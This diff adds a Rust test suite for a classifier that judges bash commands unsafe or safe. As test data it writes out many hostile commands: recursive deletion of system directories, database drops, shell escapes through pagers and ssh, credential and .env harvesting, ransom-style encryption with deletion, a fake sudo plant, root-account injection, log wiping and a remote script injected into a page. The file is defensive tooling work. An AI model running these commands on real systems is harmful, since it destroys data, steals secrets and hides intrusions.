@@ -1,0 +1,299 @@
+//! Services, stores and the lines typed into programs: what is lost or run, and what only looks so.
+
+mod judging;
+
+use judging::{all_safe, is_unsafe};
+
+#[track_caller]
+fn each_unsafe(rule: &str, cases: &[&str]) {
+    for code in cases {
+        is_unsafe("bash", code, rule);
+    }
+}
+
+#[test]
+fn services_are_told_by_a_verb() {
+    each_unsafe(
+        "destroy-data",
+        &[
+            "aws quicksight delete-dashboard --dashboard-id d",
+            "aws --profile ops memorydb delete-cluster --cluster-name m",
+            "gcloud --quiet alloydb clusters delete c",
+            "aliyun rds DeleteDBInstance --DBInstanceId r",
+            "heroku pipelines:destroy shop",
+            "govc vm.destroy web-3",
+            "openstack volume delete v1",
+            "juju destroy-model prod -y",
+            "kopia snapshot delete s1 --delete",
+            "rpk topic delete orders",
+            "pulumi --yes destroy",
+            "scw instance server terminate 11",
+        ],
+    );
+    all_safe(
+        "bash",
+        &[
+            "aws quicksight list-dashboards",
+            "aws s3api list-objects --prefix deleted/",
+            "aws ec2 delete-subnet --subnet-id s --dry-run",
+            "gcloud components remove kubectl",
+            "gcloud compute instances describe delete-me",
+            "aws ec2 describe-instances --profile delete",
+            "heroku config",
+            "juju status",
+            "az extension remove --name devops",
+            "aws dynamodb delete-item --table-name t --key file://k.json",
+        ],
+    );
+}
+
+#[test]
+fn stores_of_every_kind_are_emptied() {
+    each_unsafe(
+        "destroy-data",
+        &[
+            "echo 'db.orders.deleteMany({})' | mongosh shop",
+            "printf 'FLUSHDB\\r\\n' | nc cache 6379",
+            "valkey-cli -h cache flushall",
+            "cypher-shell 'MATCH (n) DETACH DELETE n'",
+            "rails runner 'Order.delete_all'",
+            "bq query 'DROP TABLE sales.raw'",
+            "db2 drop database sales",
+            "psql -c 'DELETE FROM orders WHERE true'",
+            "clickhouse client -q 'TRUNCATE TABLE hits'",
+            "curl -d 'q=DROP DATABASE metrics' http://influx:8086/query",
+        ],
+    );
+    is_unsafe("bash", "redis-cli module load /tmp/m.so", "shell-escape");
+    is_unsafe(
+        "bash",
+        "redis-cli acl setuser eve on nopass +@all",
+        "account-change",
+    );
+    is_unsafe("bash", "mysql -e 'RESET MASTER'", "trace-removal");
+    all_safe(
+        "bash",
+        &[
+            "echo 'db.orders.countDocuments({})' | mongosh shop",
+            "redis-cli get flush",
+            "cypher-shell 'MATCH (n) RETURN count(n)'",
+            "rails runner 'puts Order.count'",
+            "psql -c 'DELETE FROM orders WHERE id = 7'",
+            "bq query 'SELECT 1'",
+            "redis-cli config get save",
+        ],
+    );
+}
+
+#[test]
+fn lines_typed_into_programs_run() {
+    each_unsafe(
+        "shell-escape",
+        &[
+            "pry\nexec '/bin/bash'\n",
+            "less notes.txt\n!sh\n",
+            "systemctl status\n!/bin/bash\n",
+            "echo 'syscmd(id)' | m4",
+            "sed 's/^/id;/e' names.txt",
+            "scp -S /tmp/run x y:",
+            "ssh -o 'ProxyCommand=;sh 0<&2' host",
+            "GIT_SSH=/tmp/run git fetch",
+            "julia -e 'run(`/bin/bash`)'",
+            "nmap --script <(echo 'os.execute(\"/bin/sh\")') host",
+        ],
+    );
+    each_unsafe(
+        "destroy-files",
+        &[
+            "ed notes.txt <<< '!rm -rf /'",
+            "printf '\\\\! rm -rf /\\n' | psql",
+            "tmux send-keys -t 0 'rm -rf ~' Enter",
+            "make -f - <<< $'all:\\n\\trm -rf /usr'",
+            "Rscript -e 'system(\"rm -rf /\")'",
+        ],
+    );
+    all_safe(
+        "bash",
+        &[
+            "less notes.txt\necho done\n",
+            "sed 's/e/x/g' names.txt",
+            "scp -i key x host:y",
+            "echo 'define(a, b)a' | m4",
+            "GIT_SSH=/usr/bin/plink git fetch",
+            "tmux send-keys -t 0 'ls -l' Enter",
+            "make -f - <<< $'all:\\n\\techo hi'",
+        ],
+    );
+}
+
+#[test]
+fn what_names_and_words_stand_for() {
+    each_unsafe(
+        "destroy-files",
+        &[
+            "alias clean='rm -rf'\nclean /usr",
+            "sh -c 'rm -rf \"$1\"' _ /etc",
+            "bash -c '\"$@\"' run rm -rf /etc",
+            "f() { c=$1; shift; $c \"$@\"; }; f rm -rf /etc",
+            "printf -v c 'rm -rf %s' /etc; $c",
+            "mapfile -t c <<< 'rm -rf /etc'; ${c[0]}",
+            "echo 'rm -rf /etc' | tee log | sh",
+            "echo 'rm -rf /etc' | $SHELL",
+            "source /dev/stdin <<< 'rm -rf /etc'",
+            "parallel 'rm -rf {}' ::: /etc",
+            "p=(r m ' ' -rf ' ' /etc); IFS=; eval \"${p[*]}\"",
+            "sed -e 's/X/rm/;s|Y|/etc|' <<< 'X -rf Y' | sh",
+            "$(type -P rm) -rf /etc",
+            "cat > go.sh <<EOF\nrm -rf $HOME\nEOF\nbash go.sh",
+            "awk 'BEGIN { a = \"rm -rf \"; system(a \"/etc\") }'",
+            "perl -e '$a = \"rm -rf\"; $b = \" /etc\"; system($a . $b)'",
+        ],
+    );
+    each_unsafe(
+        "code-hidden",
+        &[
+            "awk '{print $2, $1}' <<< 'a b' | sh",
+            "for i in 105 100; do printf \"\\\\$(printf %o $i)\"; done | sh",
+            "eval \"$(fold -w2 <<< abcdef)\"",
+        ],
+    );
+    all_safe(
+        "bash",
+        &[
+            "alias ll='ls -l'\nll /usr",
+            "alias grep='grep --color'\ngrep x y",
+            "sh -c 'echo \"$1\"' _ /etc",
+            "awk '{print $1}' names.txt",
+            "printf -v name '%s.log' run; cat $name",
+            "exec \"$SHELL\" -l",
+            "name=$(echo \"$1\" | sed 's/x/y/'); echo $name",
+        ],
+    );
+}
+
+#[test]
+fn secrets_that_lie_about() {
+    each_unsafe(
+        "system-survey",
+        &[
+            "find /home -type f -exec grep -l sshpass {} +",
+            "find /srv ~ -name '*.yml' | xargs grep -i secret_key",
+            "history | grep -i passw",
+            "locate id_ed25519 | xargs cat",
+            "find /opt /home -name .env -exec cat {} \\;",
+            "find / -name '*_history'",
+        ],
+    );
+    each_unsafe(
+        "credential-read",
+        &[
+            "SSH_AUTH_SOCK=/tmp/ssh-Qx/agent.77 ssh-add -l",
+            "cat /proc/1/root/etc/hosts",
+            "cut -f2 names | xargs -n1 gcloud secrets versions access latest --secret",
+            "az account get-access-token > /tmp/out",
+        ],
+    );
+    all_safe(
+        "bash",
+        &[
+            "find . -name '*.py' -exec grep -l token {} +",
+            "find /usr/share/doc -name copyright -exec head -1 {} +",
+            "history | grep make",
+            "locate stdio.h",
+            "export SSH_AUTH_SOCK=$XDG_RUNTIME_DIR/agent.sock",
+        ],
+    );
+}
+
+#[test]
+fn files_held_for_ransom_and_programs_that_stand_in() {
+    each_unsafe(
+        "destroy-files",
+        &[
+            "zip -P pw -rm all.zip ~/Documents",
+            "7z a -ppw -sdel all.7z ~/Pictures",
+            "find ~ -name '*.odt' -exec gpg -c {} \\; -delete",
+        ],
+    );
+    is_unsafe(
+        "bash",
+        "printf '#!/bin/sh\\n' > ~/.local/bin/sudo",
+        "persistence-preload",
+    );
+    is_unsafe(
+        "bash",
+        "cp /bin/cat '/tmp/[kthreadd]'",
+        "obfuscated-command",
+    );
+    is_unsafe("bash", "mount --bind /tmp/none /proc/4242", "trace-removal");
+    is_unsafe(
+        "bash",
+        "touch -d '3 years ago' /usr/lib/x.so",
+        "trace-removal",
+    );
+    is_unsafe("bash", "nohup /tmp/agent >/dev/null 2>&1 &", "download-run");
+    is_unsafe(
+        "bash",
+        "mount /dev/sdb2 /media/d && chroot /media/d sh",
+        "container-escape",
+    );
+    is_unsafe(
+        "bash",
+        "seq 90000 | xargs -P 200 curl -s http://example.org/",
+        "network-flood",
+    );
+    is_unsafe("bash", "cat /dev/zero | tail", "fork-bomb");
+    is_unsafe(
+        "bash",
+        "sed -i 's|</body>|<script src=http://a.example/j></script>|' page.html",
+        "download-run",
+    );
+    all_safe(
+        "bash",
+        &[
+            "zip -r all.zip docs",
+            "7z a all.7z docs",
+            "find . -name '*.odt' -exec gpg -c {} \\;",
+            "printf '#!/bin/sh\\n' > ~/.local/bin/hello",
+            "touch -d yesterday build/stamp",
+            "nohup ./server &",
+            "seq 20 | xargs -P 4 curl -s https://example.com/{}",
+            "head -c 1M /dev/zero | tail -c 10",
+            "mkdir -p ../out",
+        ],
+    );
+}
+
+#[test]
+fn no_padding_and_no_first_line_softens() {
+    let padded = |command: &str| format!("{}{command}\n", ":\ntrue\nsleep 0\n".repeat(9));
+    for (command, rule) in [
+        ("docker run --privileged x", "container-escape"),
+        ("aws s3 rb s3://b --force", "destroy-data"),
+        ("history -c", "trace-removal"),
+        ("cat /etc/passwd > /tmp/copy", "account-read"),
+    ] {
+        is_unsafe("bash", &padded(command), rule);
+    }
+    let many: Vec<String> = (0..20).map(|n| format!("tool{n} --step {n}")).collect();
+    for (command, rule) in [
+        ("echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "file-write"),
+        ("rm -f /etc/shadow", "file-delete"),
+        ("rm -f ~/.bash_history", "trace-removal"),
+        ("> /var/log/wtmp", "trace-removal"),
+        ("history -c", "trace-removal"),
+        ("chmod u+s /bin/bash", "file-mode"),
+        ("useradd -o -u 0 eve", "account-change"),
+    ] {
+        is_unsafe("bash", &format!("#!/bin/sh\n{command}\n"), rule);
+        let long = format!("#!/bin/sh\n{}\n{command}\n", many.join("\n"));
+        is_unsafe("bash", &long, rule);
+    }
+    all_safe(
+        "bash",
+        &[
+            "#!/bin/sh\nif [ \"$1\" = purge ]; then rm -rf /var/lib/tool; fi\n",
+            "#!/bin/sh\ncp default.conf /etc/tool.conf\n",
+        ],
+    );
+}
